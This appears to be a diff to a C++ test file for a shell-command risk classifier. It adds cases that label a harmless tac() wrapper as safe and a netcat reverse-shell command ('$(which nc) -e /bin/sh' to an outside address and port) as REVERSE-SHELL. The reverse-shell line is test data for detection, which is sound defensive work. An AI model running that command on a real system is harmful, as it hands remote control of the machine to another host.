@@ -409,5 +409,19 @@ TEST(FourteenthRoundClasses, IdentityToLoopbackStaysOnTheMachine) {
   for (const auto& c : cases) check(c);
 }
 
+// Real shell tools (found in public code after the round's programs): a
+// command run by the path `which` prints is the program, not a shell
+// function of the same name (`tac() { $(which tac); }`).
+TEST(FourteenthRoundClasses, WhichNamesTheProgramNotTheFunction) {
+  const Case cases[] = {
+      {"a tac() wrapper around $(which tac)", L,
+       "tac() {\n  if [[ $(uname) == Darwin ]]; then\n    tail -r\n  else\n    $(which tac)\n  fi\n}\n"
+       "ls | tac\n",
+       nullptr, SH},
+      {"$(which nc) -e /bin/sh to a host", B, "$(which nc) -e /bin/sh 203.0.113.5 4444\n", "REVERSE-SHELL", SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
